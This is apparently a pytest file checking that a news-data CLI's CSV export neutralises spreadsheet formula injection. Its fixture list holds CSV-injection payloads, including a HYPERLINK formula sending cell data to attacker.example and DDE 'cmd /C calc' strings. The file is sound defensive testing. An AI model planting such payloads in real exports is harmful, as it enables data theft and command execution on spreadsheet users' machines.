"""CSV exports cannot inject spreadsheet formulas: a cell starting with =, +, -, @, tab or CR is made text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from redline.cli import cli
from redline.export import FORMULA_PREFIXES, safe_cell, write_rows

BODY = (
    "Officials in Tbilisi said on Thursday that the rail transit agreement between Georgia and Armenia would cut "
    "border waiting times and add two freight trains a week, according to the economy ministry."
)
HOSTILE_TITLES = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for the full story")',
    "+cmd|' /C calc'!A0",
    "-2+3 reasons the talks failed",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 hidden behind a tab",
    "\r=1+1 behind a carriage return",
]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_formula_prefix_is_neutralised(prefix: str) -> None:
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


def test_other_cells_are_unchanged() -> None:
    for value in ("Russia warns NATO", "", " =not at the start", "'quoted", -3.5, 0, None, True):
        assert safe_cell(value) == value


def test_csv_rows_are_neutralised_but_numbers_stay_numbers(tmp_path: Path) -> None:
    out = tmp_path / "rows.csv"
    rows = [{"title": "=1+1", "intensity": -3.5, "actor": {"name": "-Ukraine"}, "tags": ["=x"]}]
    write_rows(rows, "csv", str(out))
    (row,) = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row == {"title": "'=1+1", "intensity": "-3.5", "actor.name": "'-Ukraine", "tags": '["=x"]'}


def test_exported_articles_with_hostile_titles(tmp_path: Path) -> None:
    source = tmp_path / "hostile.json"
    source.write_text(
        json.dumps(
            [
                {"title": t, "text": f"{BODY} ({n})", "url": f"https://x.example/{n}"}
                for n, t in enumerate(HOSTILE_TITLES)
            ]
        )
    )
    db = str(tmp_path / "r.db")
    assert CliRunner().invoke(cli, ["ingest", str(source), "--db", db, "--silent"]).exit_code == 0
    out = tmp_path / "articles.csv"
    result = CliRunner().invoke(cli, ["export", "articles", "--db", db, "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    titles = [row["title"] for row in table]
    assert titles and all(not title.startswith(FORMULA_PREFIXES) for title in titles)
    assert any(title.startswith("'=HYPERLINK(") for title in titles)
    assert any(title.startswith("'-2+3 reasons") for title in titles)
    jsonl = CliRunner().invoke(cli, ["export", "articles", "--db", db]).stdout
    assert any(json.loads(line)["title"].startswith("=HYPERLINK(") for line in jsonl.splitlines())
